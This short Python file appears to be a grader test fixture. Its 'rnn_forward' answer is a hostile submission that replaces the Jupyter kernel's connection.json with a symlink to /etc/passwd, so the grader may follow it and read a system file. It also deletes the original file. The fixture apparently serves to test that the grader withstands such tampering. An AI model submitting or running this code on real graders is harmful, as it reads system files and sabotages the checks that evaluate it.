"""A link to a file of the grader's, where the grader might follow it."""

from pieces import STEP

STATUS, POINTS = "over a limit", 4
ANSWERS = {
    "rnn_step": STEP,
    "rnn_forward": """import os
import time

folder = os.path.dirname(get_ipython().kernel.config["IPKernelApp"]["connection_file"])
os.symlink("/etc/passwd", f"{folder}/kernel-passwd")
os.remove(f"{folder}/connection.json")
os.symlink("/etc/passwd", f"{folder}/connection.json")
time.sleep(60)
""",
}
